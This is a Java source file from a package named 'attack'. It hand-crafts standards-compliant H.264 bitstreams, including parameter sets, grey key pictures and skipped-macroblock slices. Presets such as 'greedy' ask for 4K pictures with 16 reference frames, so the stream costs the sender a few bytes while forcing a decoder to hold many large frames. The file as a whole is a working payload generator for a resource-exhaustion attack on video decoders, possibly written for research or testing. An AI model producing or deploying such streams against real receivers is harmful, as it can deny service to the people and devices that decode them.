package org.lightlock.attack;

/**
 * Hand-made H.264 pictures that cost the sender a few bytes: every macroblock of a key picture is
 * eight bits of grey, every macroblock of the others is skipped. All fits the standard.
 *
 * @param widthInMacroblocks of 16 pixels
 * @param heightInMacroblocks of 16 pixels
 * @param references how many earlier pictures the decoder must keep
 * @param level as level_idc has it
 */
record CraftedH264(int widthInMacroblocks, int heightInMacroblocks, int references, int level) {
  private static final int PROFILE_MAIN = 77;
  private static final int FRAME_NUMBER_BITS = 8;

  /** A picture of 64x64. */
  static CraftedH264 small() {
    return new CraftedH264(4, 4, 1, 10);
  }

  /** A picture of 3840x2160 that keeps one other. */
  static CraftedH264 large() {
    return new CraftedH264(240, 135, 1, 51);
  }

  /** A picture of 3840x2160 that keeps as many others as the standard has. */
  static CraftedH264 greedy() {
    return new CraftedH264(240, 135, 16, 62);
  }

  /** Sequence parameter set (§7.3.2.1.1). */
  byte[] sequenceSet() {
    return new BitWriter(0x67)
        .bits(PROFILE_MAIN, 8)
        .bits(0, 8)
        .bits(level, 8)
        .unsigned(0) // seq_parameter_set_id
        .unsigned(FRAME_NUMBER_BITS - 4)
        .unsigned(2) // pic_order_cnt_type: output in decoding order
        .unsigned(references)
        .bits(1, 1) // gaps_in_frame_num_value_allowed_flag
        .unsigned(widthInMacroblocks - 1)
        .unsigned(heightInMacroblocks - 1)
        .bits(1, 1) // frame_mbs_only_flag
        .bits(1, 1) // direct_8x8_inference_flag
        .bits(0, 2) // no cropping, no VUI
        .end();
  }

  /** Picture parameter set (§7.3.2.2). */
  byte[] pictureSet() {
    return new BitWriter(0x68)
        .unsigned(0)
        .unsigned(0)
        .bits(0, 2) // CAVLC, no bottom field order
        .unsigned(0) // one slice group
        .unsigned(0)
        .unsigned(0)
        .bits(0, 3) // no weights
        .unsigned(0)
        .unsigned(0)
        .unsigned(0)
        .bits(0, 3) // no deblocking control
        .end();
  }

  /** A grey key picture (§7.3.3, §7.3.5); key pictures in a row alternate their id. */
  byte[] keyPicture(int idrId) {
    var slice =
        new BitWriter(0x65)
            .unsigned(0)
            .unsigned(7) // I
            .unsigned(0)
            .bits(0, FRAME_NUMBER_BITS)
            .unsigned(idrId)
            .bits(0, 2) // no_output_of_prior_pics_flag, long_term_reference_flag
            .unsigned(0); // slice_qp_delta
    for (int i = 0; i < widthInMacroblocks * heightInMacroblocks; i++) {
      // I_16x16_2_0_0, chroma DC, no change of the quantiser, no coefficient
      slice.unsigned(3).bits(7, 3);
    }
    return slice.end();
  }

  /**
   * A slice of skipped macroblocks up to the picture's end.
   *
   * @param frameNumber since the last key picture
   * @param firstMacroblock more than 0 leaves the picture open: the next slice paints over it
   */
  byte[] skippedSlice(int frameNumber, int firstMacroblock) {
    return new BitWriter(0x61)
        .unsigned(firstMacroblock)
        .unsigned(firstMacroblock == 0 ? 5 : 0) // P
        .unsigned(0)
        .bits(frameNumber, FRAME_NUMBER_BITS)
        .bits(0, 3) // no override, no reordering, no marking
        .unsigned(0) // slice_qp_delta
        .unsigned(widthInMacroblocks * heightInMacroblocks - firstMacroblock)
        .end();
  }
}
